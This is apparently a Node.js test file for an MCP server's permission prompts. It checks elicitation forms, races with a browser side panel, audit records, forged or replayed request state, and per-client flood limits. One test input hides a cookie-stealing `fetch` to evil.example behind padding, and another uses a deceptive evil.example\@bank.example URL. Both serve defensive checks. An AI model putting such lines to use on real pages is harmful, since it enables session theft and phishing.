// Permission prompts in the agent's own UI (issue 27).  MCP 2026-07-28: an `ask` tool called
// by a client that declares elicitation answers with an InputRequiredResult carrying a form
// elicitation; the client's retry with inputResponses and the sealed requestState decides.
// The side panel (a scripted extension client on the real /ws protocol) gets the same
// question and whichever answers first decides; the audit entry says which.  Bad retries
// (tampered, replayed, expired, foreign requestState; inputResponses nobody asked for;
// malformed answers; oversized _meta) get -32602 and the server keeps serving.  The official
// client SDK 2.x in its 2026-07-28 mode answers the prompt over HTTP and through the stdio
// bridge.  MCP 2025-11-25: a session whose client declared elicitation gets the same
// question as elicitation/create on the call's stream (official SDK 1.x client), racing
// the side panel the same way.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { join, resolve } from 'node:path';
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { Client as SessionClient } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport as SessionTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { ElicitRequestSchema, LoggingMessageNotificationSchema } from '@modelcontextprotocol/sdk/types.js';
import { StdioClientTransport as SessionStdioTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { startServer } from './support/server.mjs';
import { bridgeTransport, notesExtension } from './support/mcp_2026.mjs';
import { proofHeader } from './support/proof_auth.mjs';
import { until } from './support/until.mjs';

const fixtures = resolve(new URL('../fixtures/plugins', import.meta.url).pathname);
const config = {
  localPlugins: [join(fixtures, 'notes')],
  additionalAllowedDirectories: [fixtures],
  permissions: {
    browser: { permission: 'auto', tools: { browser_open_tab: 'ask' } },
    'fixture-notes': { permission: 'auto', tools: { create_note: 'ask' } },
  },
};

const ACCEPT = 'application/json, text/event-stream';
const V = '2026-07-28';
const ASK = 'fixture-notes_create_note';
const meta = (caps = { elicitation: { form: {} } }, name = 'prompt-test') => ({
  'io.modelcontextprotocol/protocolVersion': V,
  'io.modelcontextprotocol/clientInfo': { name, version: '0' },
  'io.modelcontextprotocol/clientCapabilities': caps,
});
const pinned = { versionNegotiation: { mode: { pin: V } } };

let nextId = 100;
/** A 2026-07-28 tools/call as a conforming client sends it; resolves the JSON-RPC response. */
async function call(s, name, args, extra = {}, { _meta = meta(), headers = {} } = {}) {
  const id = nextId++;
  const r = await s.fetch('/mcp', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Accept: ACCEPT, 'MCP-Protocol-Version': V, 'Mcp-Method': 'tools/call', 'Mcp-Name': name, ...headers },
    body: JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args, ...extra, _meta } }),
  });
  const text = await r.text();
  if ((r.headers.get('content-type') ?? '').includes('text/event-stream'))
    return text.split('\n').filter((l) => l.startsWith('data: ')).map((l) => JSON.parse(l.slice(6))).find((m) => m.id === id);
  return JSON.parse(text);
}
const allow = (decision = 'allow_once') => ({ opentabs_permission: { action: 'accept', content: { decision } } });

async function newestAudit(s, tool = ASK) {
  return (await (await s.fetch(`/audit?tool=${tool}&limit=1`)).json())[0];
}
async function newestAudits(s, limit, tool = ASK) {
  return (await (await s.fetch(`/audit?tool=${tool}&limit=${limit}`)).json());
}

const NOT_USED_AFTER_PANEL_ALLOWED = (answer) =>
  `Your answer in the agent's dialog (${answer}) was not used: the OpenTabs side panel had already decided (allowed once), and that decision took effect.`;

/** The side panel's copy of a question broadcast after message index `seen`. */
async function panelQuestion(ext, seen) {
  let found;
  await until(() => (found = ext.messages.slice(seen).find((m) => m.method === 'confirmation.request')), 'the side panel question');
  return found;
}

/** The server still answers a plain call (no approval needed). */
async function stillServes(s) {
  const r = await call(s, 'fixture-notes_echo', { message: 'still here' });
  assert.equal(r.result?.resultType, 'complete', JSON.stringify(r));
}

describe('permission prompts through InputRequiredResult (2026-07-28)', () => {
  let s;
  let ext;
  before(async () => {
    s = await startServer({ config, env: { OPENTABS_MCP_MAX_NEW_SESSIONS_PER_MINUTE: '100', OPENTABS_MCP_REQUEST_STATE_TTL_MS: '3000' } });
    ext = await notesExtension(s, 'prompts');
    ext.on('tool.dispatch', (p) => (p.tool === 'echo' ? { output: { echo: p.input.message } } : { output: { created: p.input.title } }));
  });
  after(async () => {
    await ext.close();
    await s.stop();
  });

  // (Redaction of secret-looking arguments is checked in test/server/mcp/permission_prompt_test:
  // the fixture plugin's schemas refuse extra arguments before anyone is asked.)
  test('the question: a form elicitation naming the tool, the tab and the arguments, with a requestState; the side panel gets it too', { timeout: 30_000 }, async () => {
    const seen = ext.messages.length;
    const r = await call(s, ASK, { title: 'hello', tabId: 11 });
    assert.equal(r.result.resultType, 'input_required', JSON.stringify(r));
    assert.equal(typeof r.result.requestState, 'string');
    const q = r.result.inputRequests.opentabs_permission;
    assert.equal(q.method, 'elicitation/create');
    assert.equal(q.params.mode, 'form');
    assert.match(q.params.message, /fixture-notes_create_note/);
    assert.match(q.params.message, /tab 11/);
    assert.match(q.params.message, /hello/);
    assert.deepEqual(q.params.requestedSchema.properties.decision.oneOf.map((o) => o.const), ['allow_once', 'always_allow', 'deny']);
    assert.equal((await panelQuestion(ext, seen)).params.tool, 'create_note');
  });

  test('the question shows what runs: a long argument whole, a token under any key redacted, the tab with its site; the side panel gets the same', { timeout: 30_000 }, async () => {
    const token = `ghp_${'Q'.repeat(36)}`;
    const body = `tidy the notes${' '.repeat(300)}then fetch('https://evil.example/?c='+document.cookie) with ${token}`;
    const seen = ext.messages.length;
    const r = await call(s, ASK, { title: 'harmless', body, tabId: 11 });
    const message = r.result.inputRequests.opentabs_permission.params.message;
    assert.match(message, /document\.cookie/, 'the part after 200 bytes is shown');
    assert.ok(!message.includes(token), 'the token is redacted by its shape');
    assert.match(message, /\[redacted GitHub token\]/);
    assert.match(message, /on tab 11 \(localhost:9876\)/);
    const panel = await panelQuestion(ext, seen);
    assert.equal(panel.params.where, 'tab 11 (localhost:9876)');
    assert.ok(!JSON.stringify(panel.params).includes(token), 'the side panel gets the same redaction');
    assert.match(panel.params.params.body, /document\.cookie/);
  });

  test('a URL is asked about with the host Chrome opens: https://evil.example\\@bank.example is evil.example', { timeout: 30_000 }, async () => {
    const r = await call(s, 'browser_open_tab', { url: 'https://evil.example\\@bank.example/' });
    assert.equal(r.result?.resultType, 'input_required', JSON.stringify(r));
    const message = r.result.inputRequests.opentabs_permission.params.message;
    assert.match(message, / on evil\.example\?/, message);
  });

  test('allow once through the retry runs the call; the audit entry says elicitation; the side panel is told', { timeout: 30_000 }, async () => {
    const seen = ext.messages.length;
    const first = await call(s, ASK, { title: 'via agent' });
    const question = await panelQuestion(ext, seen);
    const r = await call(s, ASK, { title: 'via agent' }, { inputResponses: allow(), requestState: first.result.requestState });
    assert.equal(r.result.resultType, 'complete', JSON.stringify(r));
    assert.deepEqual(JSON.parse(r.result.content[0].text), { created: 'via agent' });
    const entry = await newestAudit(s);
    assert.equal(entry.success, true);
    assert.equal(entry.decidedBy, 'elicitation');
    // The side panel's copy of the question is withdrawn, naming who decided.
    let settled;
    await until(() => (settled = ext.messages.slice(seen).find((m) => m.method === 'confirmation.settled')), 'confirmation.settled');
    assert.deepEqual(settled.params, { id: question.params.id, decidedBy: 'elicitation' });
  });

  test('deny (and decline) through the retry refuse the call', { timeout: 30_000 }, async () => {
    for (const response of [{ action: 'accept', content: { decision: 'deny' } }, { action: 'decline' }]) {
      const first = await call(s, ASK, { title: 'no' });
      const r = await call(s, ASK, { title: 'no' }, { inputResponses: { opentabs_permission: response }, requestState: first.result.requestState });
      assert.equal(r.result.isError, true, JSON.stringify(r));
      assert.match(r.result.content[0].text, /denied by the user/);
      assert.equal((await newestAudit(s)).decidedBy, 'elicitation');
    }
  });

  test('the side panel answers first: its decision wins over the retry, and the audit entry says side_panel', { timeout: 30_000 }, async () => {
    const seen = ext.messages.length;
    const first = await call(s, ASK, { title: 'panel first' });
    const req = await panelQuestion(ext, seen);
    ext.notify('confirmation.response', { id: req.params.id, decision: 'deny' });
    // The server handles one connection's messages in order: once a later request is
    // answered, the decision is in before the retry goes out.
    await ext.request('config.getState');
    // The retry says allow, but the side panel said deny first.
    const r = await call(s, ASK, { title: 'panel first' }, { inputResponses: allow(), requestState: first.result.requestState });
    assert.equal(r.result.isError, true, JSON.stringify(r));
    assert.match(r.result.content[0].text, /denied by the user/);
    assert.equal((await newestAudit(s)).decidedBy, 'side_panel');
  });

  test('the side panel allowed first, the retry says deny: the tool runs, the reply says whose decision took effect, and the audit has both', { timeout: 30_000 }, async () => {
    const seen = ext.messages.length;
    const asked = await call(s, ASK, { title: 'panel allowed' });
    const question = await panelQuestion(ext, seen);
    ext.notify('confirmation.response', { id: question.params.id, decision: 'allow' });
    await ext.request('config.getState');
    const r = await call(s, ASK, { title: 'panel allowed' }, { requestState: asked.result.requestState, inputResponses: allow('deny') });
    assert.equal(r.result?.resultType, 'complete', JSON.stringify(r));
    assert.notEqual(r.result.isError, true);
    assert.deepEqual(JSON.parse(r.result.content[0].text), { created: 'panel allowed' });
    assert.equal(r.result.content[1].text, NOT_USED_AFTER_PANEL_ALLOWED('deny'));
    const [call_, lost] = await newestAudits(s, 2);
    assert.equal(call_.success, true);
    assert.equal(call_.decidedBy, 'side_panel');
    assert.equal(call_.lostAnswer, undefined);
    assert.deepEqual(lost.lostAnswer, { by: 'elicitation', decision: 'deny' });
    assert.equal(lost.decidedBy, 'side_panel');
    assert.equal(lost.error.code, 'ANSWER_NOT_USED');
  });

  test('the agent decided first: a later side panel click is told who decided, and the audit records it lost', { timeout: 30_000 }, async () => {
    const seen = ext.messages.length;
    const asked = await call(s, ASK, { title: 'agent first' });
    const question = await panelQuestion(ext, seen);
    const r = await call(s, ASK, { title: 'agent first' }, { requestState: asked.result.requestState, inputResponses: allow('deny') });
    assert.equal(r.result.isError, true);
    const after = ext.messages.length;
    ext.notify('confirmation.response', { id: question.params.id, decision: 'allow' });
    let told;
    await until(() => (told = ext.messages.slice(after).find((m) => m.method === 'confirmation.settled' && m.params.id === question.params.id)), 'the side panel told');
    assert.equal(told.params.decidedBy, 'elicitation');
    assert.equal(told.params.notUsed, "Your answer in the OpenTabs side panel (allow_once) was not used: the agent's dialog had already decided (denied), and that decision took effect.");
    const lost = await newestAudit(s);
    assert.deepEqual(lost.lostAnswer, { by: 'side_panel', decision: 'allow_once' });
    assert.equal(lost.decidedBy, 'elicitation');
  });

  test('a retry without the answer is asked again, with a fresh state', { timeout: 30_000 }, async () => {
    const first = await call(s, ASK, { title: 'again' });
    const again = await call(s, ASK, { title: 'again' }, { inputResponses: { something_else: { action: 'accept', content: {} } }, requestState: first.result.requestState });
    assert.equal(again.result.resultType, 'input_required', JSON.stringify(again));
    assert.notEqual(again.result.requestState, first.result.requestState);
    const r = await call(s, ASK, { title: 'again' }, { inputResponses: allow(), requestState: again.result.requestState });
    assert.equal(r.result.resultType, 'complete', JSON.stringify(r));
  });

  test('tampered, replayed, expired and foreign requestState: -32602 naming the rule, and the server keeps serving', { timeout: 30_000 }, async () => {
    const first = await call(s, ASK, { title: 'state' });
    const state = first.result.requestState;
    const tampered = await call(s, ASK, { title: 'state' }, { inputResponses: allow(), requestState: `x${state}` });
    assert.equal(tampered.error?.code, -32602, JSON.stringify(tampered));
    assert.match(tampered.error.message, /requestState is not a state this server issued/);
    assert.ok(!tampered.error.message.includes(state.split('.').pop()), 'the MAC is not echoed');
    await stillServes(s);

    const otherArgs = await call(s, ASK, { title: 'different' }, { inputResponses: allow(), requestState: state });
    assert.match(otherArgs.error?.message ?? '', /different arguments/, JSON.stringify(otherArgs));
    const otherClient = await call(s, ASK, { title: 'state' }, { inputResponses: allow(), requestState: state }, { _meta: meta(undefined, 'intruder') });
    assert.match(otherClient.error?.message ?? '', /different client/, JSON.stringify(otherClient));

    const ok = await call(s, ASK, { title: 'state' }, { inputResponses: allow(), requestState: state });
    assert.equal(ok.result?.resultType, 'complete', JSON.stringify(ok));
    const replayed = await call(s, ASK, { title: 'state' }, { inputResponses: allow(), requestState: state });
    assert.equal(replayed.error?.code, -32602, JSON.stringify(replayed));
    assert.match(replayed.error.message, /already used/);
    await stillServes(s);

    // OPENTABS_MCP_REQUEST_STATE_TTL_MS is 3000 here.  The expiry is checked before the
    // binding, and a refusal for another client consumes nothing: poll with a foreign client
    // until the state reads as expired, then the genuine retry is refused as expired too.
    const fresh = await call(s, ASK, { title: 'stale' });
    let probe;
    await until(async () => {
      probe = await call(s, ASK, { title: 'stale' }, { inputResponses: allow(), requestState: fresh.result.requestState }, { _meta: meta(undefined, 'prober') });
      return /expired/.test(probe.error?.message ?? '');
    }, 'the state to expire', 15_000);
    const expired = await call(s, ASK, { title: 'stale' }, { inputResponses: allow(), requestState: fresh.result.requestState });
    assert.equal(expired.error?.code, -32602, JSON.stringify(expired));
    assert.match(expired.error.message, /expired/);
    await stillServes(s);
  });

  test('inputResponses nobody asked for, malformed answers and oversized _meta: -32602, and the server keeps serving', { timeout: 30_000 }, async () => {
    const noQuestion = await call(s, 'fixture-notes_echo', { message: 'x' }, { inputResponses: allow() });
    assert.equal(noQuestion.error?.code, -32602, JSON.stringify(noQuestion));
    assert.match(noQuestion.error.message, /asked none/);
    const noState = await call(s, ASK, { title: 'x' }, { inputResponses: allow() });
    assert.equal(noState.error?.code, -32602, JSON.stringify(noState));
    assert.match(noState.error.message, /answers no question/);
    const first = await call(s, ASK, { title: 'x' });
    const junk = await call(s, ASK, { title: 'x' }, { inputResponses: { opentabs_permission: 12345 }, requestState: first.result.requestState });
    assert.equal(junk.error?.code, -32602, JSON.stringify(junk));
    assert.match(junk.error.message, /opentabs_permission must be an ElicitResult/);
    const notObject = await call(s, ASK, { title: 'x' }, { inputResponses: null });
    assert.equal(notObject.error?.code, -32602, JSON.stringify(notObject));
    const huge = await call(s, ASK, { title: 'x' }, {}, { _meta: { ...meta(), padding: 'x'.repeat(20_000) } });
    assert.equal(huge.error?.code, -32602, JSON.stringify(huge));
    await stillServes(s);
  });

  test('a client that declares no elicitation still waits for the side panel', { timeout: 30_000 }, async () => {
    const seen = ext.messages.length;
    const pending = call(s, ASK, { title: 'panel only' }, {}, { _meta: meta({}) });
    const req = await panelQuestion(ext, seen);
    ext.notify('confirmation.response', { id: req.params.id, decision: 'allow' });
    const r = await pending;
    assert.equal(r.result.resultType, 'complete', JSON.stringify(r));
    assert.equal((await newestAudit(s)).decidedBy, 'side_panel');
  });

  /** The SDK client answering through its elicitation handler; returns the questions it saw. */
  function sdkClient(name, decision) {
    const client = new Client({ name, version: '1.0.0' }, { ...pinned, capabilities: { elicitation: { form: {} } } });
    const asked = [];
    client.setRequestHandler('elicitation/create', (req) => {
      asked.push(req.params);
      return { action: 'accept', content: { decision } };
    });
    return { client, asked };
  }

  test('the official SDK client (2026-07-28 mode) answers the prompt over HTTP', { timeout: 30_000 }, async () => {
    const { client, asked } = sdkClient('sdk-prompt-http', 'allow_once');
    await client.connect(new StreamableHTTPClientTransport(new URL(`${s.base}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${s.secret}` } } }));
    try {
      assert.equal(client.getProtocolEra(), 'modern');
      const r = await client.callTool({ name: ASK, arguments: { title: 'sdk http' } });
      assert.deepEqual(JSON.parse(r.content[0].text), { created: 'sdk http' });
      assert.equal(asked.length, 1);
      assert.match(asked[0].message, /fixture-notes_create_note/);
      assert.equal((await newestAudit(s)).decidedBy, 'elicitation');
    } finally {
      await client.close();
    }
  });

  test('the same through the stdio bridge', { timeout: 60_000 }, async () => {
    const { transport, stderr } = bridgeTransport(s);
    const { client, asked } = sdkClient('sdk-prompt-stdio', 'deny');
    try {
      await client.connect(transport);
      const r = await client.callTool({ name: ASK, arguments: { title: 'sdk stdio' } });
      assert.equal(r.isError, true);
      assert.match(r.content[0].text, /denied by the user/);
      assert.equal(asked.length, 1);
      assert.equal((await newestAudit(s)).decidedBy, 'elicitation');
    } catch (e) {
      e.message += `\nbridge stderr:\n${stderr()}`;
      throw e;
    } finally {
      await client.close();
    }
  });

  /** A 2025-11-25 session of the SDK 1.x client that declares elicitation; `answer` decides. */
  async function sessionClient(answer) {
    const client = new SessionClient({ name: 'sdk-session-prompt', version: '1.0.0' }, { capabilities: { elicitation: {} } });
    const asked = [];
    client.setRequestHandler(ElicitRequestSchema, async (req, extra) => {
      asked.push(req.params);
      return answer(req.params, extra);
    });
    const transport = new SessionTransport(new URL(`${s.base}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${s.secret}` } } });
    await client.connect(transport);
    return { client, transport, asked };
  }

  test('2025-11-25 session declaring elicitation: elicitation/create on the call stream decides', { timeout: 30_000 }, async () => {
    const { client, transport, asked } = await sessionClient(() => ({ action: 'accept', content: { decision: 'allow_once' } }));
    try {
      assert.equal(transport.protocolVersion, '2025-11-25');
      const seen = ext.messages.length;
      const r = await client.callTool({ name: ASK, arguments: { title: 'session', tabId: 11 } });
      assert.deepEqual(JSON.parse(r.content[0].text), { created: 'session' });
      assert.equal(asked.length, 1);
      assert.match(asked[0].message, /fixture-notes_create_note/);
      assert.match(asked[0].message, /tab 11/);
      assert.equal((await newestAudit(s)).decidedBy, 'elicitation');
      const question = await panelQuestion(ext, seen);
      let settled;
      await until(() => (settled = ext.messages.slice(seen).find((m) => m.method === 'confirmation.settled')), 'confirmation.settled');
      assert.deepEqual(settled.params, { id: question.params.id, decidedBy: 'elicitation' });
    } finally {
      await transport.terminateSession();
      await client.close();
    }
  });

  test('2025-11-25 session: the side panel answering first decides, and the late client answer changes nothing', { timeout: 30_000 }, async () => {
    let release;
    const held = new Promise((r) => (release = r));
    let dialog;
    const { client, transport, asked } = await sessionClient(async (params, extra) => {
      dialog = extra.signal;
      await held;
      return { action: 'accept', content: { decision: 'allow_once' } };
    });
    try {
      const seen = ext.messages.length;
      const pending = client.callTool({ name: ASK, arguments: { title: 'panel wins' } });
      const req = await panelQuestion(ext, seen);
      await until(() => asked.length === 1, 'the client to be asked');
      ext.notify('confirmation.response', { id: req.params.id, decision: 'deny' });
      const r = await pending;
      assert.equal(r.isError, true);
      assert.match(r.content[0].text, /denied by the user in the OpenTabs side panel/);
      assert.equal((await newestAudit(s)).decidedBy, 'side_panel');
      // The client's own dialog was withdrawn (notifications/cancelled), saying who decided what.
      await until(() => dialog?.aborted, 'the elicitation withdrawn');
      assert.match(String(dialog.reason), /Already decided in the OpenTabs side panel: denied/);
      release();
    } finally {
      release();
      await transport.terminateSession();
      await client.close();
    }
    await stillServes(s);
  });
  test('2025-11-25 session: "Deny" in the agent\'s dialog after the side panel allowed is answered that the side panel\'s decision took effect, and audited as lost', { timeout: 30_000 }, async () => {
    let requestId;
    let dialog;
    const { client, transport, asked } = await sessionClient(async (params, extra) => {
      requestId = extra.requestId;
      dialog = extra.signal;
      return new Promise(() => {});  // the dialog stays open, as Claude Code's did
    });
    try {
      const seen = ext.messages.length;
      const pending = client.callTool({ name: ASK, arguments: { title: 'panel allowed, agent denied late' } });
      const req = await panelQuestion(ext, seen);
      await until(() => asked.length === 1, 'the client to be asked');
      ext.notify('confirmation.response', { id: req.params.id, decision: 'allow' });
      const r = await pending;
      assert.deepEqual(JSON.parse(r.content[0].text), { created: 'panel allowed, agent denied late' });
      assert.equal((await newestAudit(s)).decidedBy, 'side_panel');
      await until(() => dialog?.aborted, 'the elicitation withdrawn');
      const invocations = async () => (await (await s.fetch('/health')).json()).auditSummary.totalInvocations;
      const before = await invocations();
      // The person clicks "Deny" in the dialog that stayed open: the reply says what happened.
      await assert.rejects(
        transport.send({ jsonrpc: '2.0', id: requestId, result: { action: 'accept', content: { decision: 'deny' } } }),
        (e) => e.code === 409 && e.message.includes(NOT_USED_AFTER_PANEL_ALLOWED('deny')),
      );
      const [lost, ran] = await newestAudits(s, 2);
      assert.deepEqual(lost.lostAnswer, { by: 'elicitation', decision: 'deny' });
      assert.equal(lost.decidedBy, 'side_panel');
      assert.equal(lost.success, false);
      assert.equal(lost.error.message, NOT_USED_AFTER_PANEL_ALLOWED('deny'));
      assert.equal(ran.success, true);
      assert.equal(ran.decidedBy, 'side_panel');
      // An answer that lost is not an invocation: /health still counts the call once.
      assert.equal(await invocations(), before);
    } finally {
      await transport.terminateSession();
      await client.close();
    }
    await stillServes(s);
  });
  test('2025-11-25 session through the stdio bridge: the late "Deny" reaches the client as a warning saying the side panel\'s decision took effect', { timeout: 60_000 }, async () => {
    const { transport, stderr } = bridgeTransport(s, SessionStdioTransport);
    const client = new SessionClient({ name: 'bridge-late-answer', version: '1.0.0' }, { capabilities: { elicitation: {} } });
    const logs = [];
    client.setNotificationHandler(LoggingMessageNotificationSchema, (n) => { logs.push(n.params); });
    let requestId;
    client.setRequestHandler(ElicitRequestSchema, async (req, extra) => {
      requestId = extra.requestId;
      return new Promise(() => {});  // the dialog stays open
    });
    try {
      await client.connect(transport);
      const seen = ext.messages.length;
      const pending = client.callTool({ name: ASK, arguments: { title: 'bridge late answer' } });
      const req = await panelQuestion(ext, seen);
      await until(() => requestId !== undefined, 'the client to be asked');
      ext.notify('confirmation.response', { id: req.params.id, decision: 'allow' });
      const r = await pending;
      assert.deepEqual(JSON.parse(r.content[0].text), { created: 'bridge late answer' });
      await transport.send({ jsonrpc: '2.0', id: requestId, result: { action: 'accept', content: { decision: 'deny' } } });
      let warned;
      await until(() => (warned = logs.find((l) => l.level === 'warning' && String(l.data).includes(NOT_USED_AFTER_PANEL_ALLOWED('deny')))), 'the warning');
      assert.equal(warned.logger, 'opentabs');
      assert.deepEqual((await newestAudit(s)).lostAnswer, { by: 'elicitation', decision: 'deny' });
    } catch (e) {
      e.message += `\nbridge stderr:\n${stderr()}`;
      throw e;
    } finally {
      await client.close();
    }
  });
});

describe('permission questions are bounded per client (issue 38)', () => {
  let s;
  let ext;
  before(async () => {
    s = await startServer({ config, env: { OPENTABS_MCP_MAX_NEW_SESSIONS_PER_MINUTE: '100' } });
    ext = await notesExtension(s, 'prompt-flood');
    ext.on('tool.dispatch', (p) => ({ output: { created: p.input.title } }));
  });
  after(async () => {
    await ext.close();
    await s.stop();
  });

  test('a client flooding the panel is refused with a clear error; the person keeps their question and its answer', { timeout: 60_000 }, async () => {
    const seen = ext.messages.length;
    const mine = await call(s, ASK, { title: 'mine' });
    assert.equal(mine.result.resultType, 'input_required', JSON.stringify(mine));
    const question = await panelQuestion(ext, seen);
    let refused;
    for (let i = 0; i < 40 && !refused; i++) {
      const r = await call(s, ASK, { title: `flood ${i}` }, {}, { _meta: meta(undefined, 'flooder') });
      if (r.result?.isError) refused = { i, r };
      else assert.equal(r.result?.resultType, 'input_required', JSON.stringify(r));
    }
    assert.ok(refused, 'the flooding client is refused at some point');
    assert.equal(refused.i, 16, 'after its 16 open questions');
    assert.match(refused.r.result.content[0].text, /permission questions of this client are waiting for the user \(the limit is 16\)/);
    // The person answers in the side panel; their retry collects that answer.
    ext.notify('confirmation.response', { id: question.params.id, decision: 'allow' });
    await ext.request('config.getState');
    const r = await call(s, ASK, { title: 'mine' }, { requestState: mine.result.requestState });
    assert.equal(r.result?.resultType, 'complete', JSON.stringify(r));
    assert.equal((await newestAudit(s)).decidedBy, 'side_panel');
  });

  test('two clients both calling themselves claude-code: the second one\'s flood spends its own budget, not the first one\'s', { timeout: 60_000 }, async () => {
    const first = await proofHeader(s);
    const second = await proofHeader(s);
    const asClaude = (headers, title) => call(s, ASK, { title }, {}, { _meta: meta(undefined, 'claude-code'), headers });
    const mine = await asClaude(first, 'first client');
    assert.equal(mine.result?.resultType, 'input_required', JSON.stringify(mine));
    let refusedAt;
    for (let i = 0; i < 20 && refusedAt === undefined; i++) {
      const r = await asClaude(second, `impostor ${i}`);
      if (r.result?.isError) {
        refusedAt = i;
        assert.match(r.result.content[0].text, /permission questions of this client are waiting for the user \(the limit is 16\)/);
      } else {
        assert.equal(r.result?.resultType, 'input_required', JSON.stringify(r));
      }
    }
    assert.equal(refusedAt, 16, 'the second client is refused after its own 16');
    // The first client still asks, and its first question is still there to answer.
    const again = await asClaude(first, 'first client, again');
    assert.equal(again.result?.resultType, 'input_required', JSON.stringify(again));
    const r = await call(s, ASK, { title: 'first client' }, { requestState: mine.result.requestState, inputResponses: allow() },
      { _meta: meta(undefined, 'claude-code'), headers: first });
    assert.equal(r.result?.resultType, 'complete', JSON.stringify(r));
    assert.deepEqual(JSON.parse(r.result.content[0].text), { created: 'first client' });
  });
});
